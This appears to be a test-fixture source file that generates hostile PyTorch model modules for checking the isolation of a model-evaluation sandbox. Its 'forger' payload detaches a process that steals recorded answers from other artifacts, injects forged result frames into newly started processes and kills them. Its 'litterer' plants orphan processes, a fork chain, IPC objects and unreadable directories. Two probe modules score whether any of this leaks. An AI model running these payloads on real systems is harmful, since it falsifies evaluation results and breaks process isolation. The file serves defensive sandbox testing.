"""Source of hostile PyTorch modules: what a model's own code may try against the artifacts beside it."""

from __future__ import annotations

_MODULE = """
import ctypes, json, os, socket, stat, sys, threading, time, zipfile
import torch
from torch import nn

{top}

class TinyNet(nn.Module):
    def __init__(self, inputs, classes):
        super().__init__()
        self.hidden = nn.ModuleDict({{"linear": nn.Linear(inputs, 8)}})
        self.hidden.register_parameter("scale", nn.Parameter(torch.ones(1)))
        self.head = nn.Linear(8, classes)

    def forward(self, x):
        {body}
"""

_DETACH = '''
def detached(work):
    """Run `work` in a process of another session, whose parent is gone."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            try:
                work()
            finally:
                os._exit(0)
        os._exit(0)
    os.wait()
'''

# Forges what the artifacts after it answer, out of the references that it can read.
_FORGER = '''
OWN = os.getpid()
FORGED = {forged!r}

def frames():
    """The frames of every artifact of the job whose answers can be had, by artifact."""
    if FORGED:
        return FORGED
    found = {{}}
    job = json.load(open("/job/job.json"))
    for artifact in job["artifacts"]:
        path = os.path.join(artifact["directory"], artifact["inputs"]["file"])
        try:
            metadata = [n for n in os.listdir(artifact["directory"]) if n.startswith("metadata_")]
            names = [json.load(open(os.path.join(artifact["directory"], n))) for n in metadata]
            told = [m for m in names if any(f["path"] == artifact["model"] for f in m["files"])][0]
            data = b""
            with zipfile.ZipFile(path) as store:
                for k, spec in enumerate(told["outputs"]):
                    with store.open(spec["member"] + ".npy") as member:
                        member.read(8)
                        member.read(int.from_bytes(member.read(2), "little"))
                        payload = member.read()
                    header = dict(kind="output", name=spec["name"], index=k, dtype=spec["dtype"])
                    data += frame(dict(header, shape=spec["shape"]), payload)
            found[artifact["id"]] = data + frame(dict(kind="end", status="ok", reason="", versions={{}}), b"")
        except (OSError, KeyError, IndexError, ValueError):
            pass
    return found

def frame(header, payload):
    data = json.dumps(dict(header, payload=len(payload))).encode()
    return b"TPF1" + len(data).to_bytes(4, "big") + data + payload

def lurk():
    forged = list(frames().values())
    seen = {{int(n) for n in os.listdir("/proc") if n.isdigit()}}
    until = time.monotonic() + 60
    while time.monotonic() < until:
        for name in os.listdir("/proc"):
            if not name.isdigit() or int(name) in seen:
                continue
            pid = int(name)
            try:
                os.kill(pid, 19)
                stream = os.open("/proc/%d/fd/3" % pid, os.O_WRONLY)
                seen.add(pid)
                os.write(stream, forged[-1])
                os.close(stream)
                os.kill(pid, 9)
            except OSError:
                try:
                    os.kill(pid, 18)
                except OSError:
                    pass
'''


def forger(forged: dict[str, bytes] | None = None) -> bytes:
    """Answers well itself; a process that it leaves forges the answer of the next artifact.

    Args:
        forged: frames by artifact that it brings along, where no recorded answer can be read.
    """
    top = _DETACH + _FORGER.format(forged=forged or {})
    body = "detached(lurk)\n        return self.head(self.hidden.linear(x) * self.hidden.scale)"
    return _MODULE.format(top=top, body=body.replace("self.hidden.linear", "self.hidden['linear']")).encode()


_LOOK = '''
def recorded():
    """Where a recorded answer could be read: none of these may be there."""
    found = []
    for top in ("/in", "/job"):
        for folder, _, names in os.walk(top):
            for name in names:
                path = os.path.join(folder, name)
                if name.startswith("metadata_") or name.startswith("witness_"):
                    found.append(path)
                elif name.endswith(".npz"):
                    with zipfile.ZipFile(path) as store:
                        found += [path + ":" + m for m in store.namelist() if not m.startswith("input_")]
    with open("/job/job.json") as stream:
        job = json.load(stream)
    listed = [os.path.join(a["directory"], f["path"]) for a in job["artifacts"] for f in a["files"]]
    there = [os.path.join(folder, name) for folder, _, names in os.walk("/in") for name in names]
    found += sorted(set(there) - set(listed))
    for artifact in job["artifacts"]:
        found += [d for d in (artifact.get("recorded") or {}).values() if d.strip("0")]
    found += ["another artifact"] * (len(job["artifacts"]) - 1)
    return found
'''


def reader() -> bytes:
    """Gives 1.0 where no recorded answer, and nothing but its own listed files, can be read; else 0.0."""
    body = "left = recorded()\n        print(left)\n        return torch.tensor([0.0 if left else 1.0])"
    return _MODULE.format(top=_LOOK, body=body).encode()


_LITTER = '''
LIBC = ctypes.CDLL(None)

def nest(folder, depth):
    here = os.open(folder, os.O_RDONLY)
    for k in range(depth):
        os.mkdir("d", dir_fd=here)
        inner = os.open("d", os.O_RDONLY, dir_fd=here)
        os.close(here)
        here = inner
    os.close(os.open("f", os.O_CREAT | os.O_WRONLY, dir_fd=here))
    os.close(here)

def litter():
    for folder in ("/tmp", "/dev/shm", "/dev/mqueue"):
        try:
            open(folder + "/left", "w").close()
        except OSError:  # message queues can't be made
            pass
    os.makedirs("/tmp/a/closed/b")
    open("/tmp/a/closed/b/c", "w").close()
    os.chmod("/tmp/a/closed/b", 0)
    os.chmod("/tmp/a/closed", 0)
    os.symlink("/in", "/tmp/link")
    os.mkfifo("/tmp/pipe")
    socket.socket(socket.AF_UNIX).bind("/tmp/socket")
    os.mkdir("/tmp/deep")
    nest("/tmp/deep", 3000)
    LIBC.shmget(0x7470, 4096, 0o1666)
    LIBC.semget(0x7470, 1, 0o1666)
    LIBC.msgget(0x7470, 0o1666)
    LIBC.mq_open(b"/left", os.O_CREAT | os.O_RDWR, 0o666, None)
    detached(lambda: time.sleep(600))
    detached(lambda: os.kill(os.getpid(), 19))  # stopped
    detached(headless)
    detached(lambda: [fork_on() for _ in range(1)])

def headless():
    """The first thread ends, and another lives on: /proc calls that a zombie."""
    threading.Thread(target=time.sleep, args=(600,)).start()
    LIBC.syscall(60, 0)  # exit, of this thread alone, on x86-64

def fork_on():
    """Each process ends as soon as it has made the next one."""
    while True:
        if os.fork():
            os._exit(0)
'''


def litterer() -> bytes:
    """Leaves processes, files and shared memory of every kind, and gives 1.0."""
    body = "litter()\n        return torch.ones(1)"
    return _MODULE.format(top=_DETACH + _LITTER, body=body).encode()


_FIND = '''
LIBC = ctypes.CDLL(None)

def left():
    """What somebody else left where this process may look."""
    found = []
    for folder in ("/tmp", "/dev/shm", "/dev/mqueue"):
        if os.path.isdir(folder):
            found += [folder + "/" + name for name in os.listdir(folder)]
    for name in os.listdir("/proc"):
        if name.isdigit():
            with open("/proc/" + name + "/stat") as stream:
                parent = int(stream.read().rpartition(")")[2].split()[1])
            if int(name) not in (1, os.getpid(), os.getppid()) and parent != 1:
                found.append("process " + name)
    for kind in ("shm", "sem", "msg"):
        with open("/proc/sysvipc/" + kind) as stream:
            found += [kind + line for line in stream.readlines()[1:]]
    if LIBC.mq_open(b"/left", os.O_RDWR) >= 0:
        found.append("a message queue")
    cmdlines = [n for n in os.listdir("/proc") if n.isdigit()]
    if len(cmdlines) > {processes}:
        found.append("%d processes" % len(cmdlines))
    return found

def score_of(pid):
    with open("/proc/%d/oom_score_adj" % pid) as stream:
        return int(stream.read())

def open_to_others():
    """Whether a process of the same user could look into this one; and what the kernel takes first."""
    found = []
    if LIBC.prctl(3, 0, 0, 0, 0):
        found.append("dumpable")
    for pid, score in ((os.getpid(), 1000), (os.getppid(), 500)):
        told = score_of(pid)
        for _ in range(3000):  # the server has its child's score until it goes on after the fork
            if told == score:
                break
            time.sleep(0.02)
            told = score_of(pid)
        if told != score:
            found.append("oom_score_adj of %d: %d" % (pid, told))
    return found
'''


def finder(processes: int) -> bytes:
    """Gives 1.0 where nothing of another artifact is left, and it can't be looked into; else 0.0.

    Args:
        processes: how many there are: the supervisor, a server for each framework, and itself.
    """
    body = "all_ = left() + open_to_others()\n        print(all_)\n"
    body += "        return torch.tensor([0.0 if all_ else 1.0])"
    return _MODULE.format(top=_FIND.replace("{processes}", str(processes)), body=body).encode()
